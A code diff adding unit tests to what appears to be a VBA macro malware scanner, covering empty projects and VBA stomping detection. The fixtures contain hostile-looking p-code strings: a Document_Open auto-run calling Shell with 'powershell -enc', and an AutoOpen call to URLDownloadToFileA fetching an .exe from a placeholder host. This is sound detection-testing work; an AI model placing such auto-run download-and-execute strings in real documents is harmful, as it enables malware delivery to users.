@@ -155,6 +155,24 @@ class VbaAnalyzerTest {
     }
 
     @Test
+    void projectWithEmptyModulesIsInfoNotAMacro() {
+        byte[] bin = OfficeFixtures.vbaProjectBin(List.of(Module.document("ThisDocument", "Option Explicit\r\n' nothing here\r\n\r\n")),
+                new byte[] {(byte) 0xCC, 0x61});
+        Report report = TestEngines.scanFile("letter.docm", OfficeFixtures.docm(bin));
+        assertEquals(Verdict.CLEAN, report.verdict(), report.findings().toString());
+        assertEquals(List.of("vba.empty-project"), TestEngines.codes(report));
+        assertEquals(Severity.INFO, report.findings().get(0).severity());
+    }
+
+    @Test
+    void emptySourceOverRealPcodeIsStomping() {
+        Module stomped = Module.document("ThisDocument", "").withPcode("\u0000Document_Open\u0000Shell\u0000powershell -enc AAA\u0000");
+        Report report = TestEngines.scanFile("e.doc", OfficeFixtures.doc(List.of(stomped)));
+        assertTrue(TestEngines.codes(report).contains("vba.stomping"), report.findings().toString());
+        assertEquals(Verdict.MALICIOUS, report.verdict(), "auto-run and Shell only in the p-code");
+    }
+
+    @Test
     void stompedSourceIsReportedFromThePcode() {
         Module stomped = Module.standard("Module1", "Sub Hello()\r\n    MsgBox \"hello\"\r\nEnd Sub\r\n")
                 .withPcode("\u0000\u0001AutoOpen\u0000\u0003URLDownloadToFileA\u0000http://x.example/p.exe\u0000");
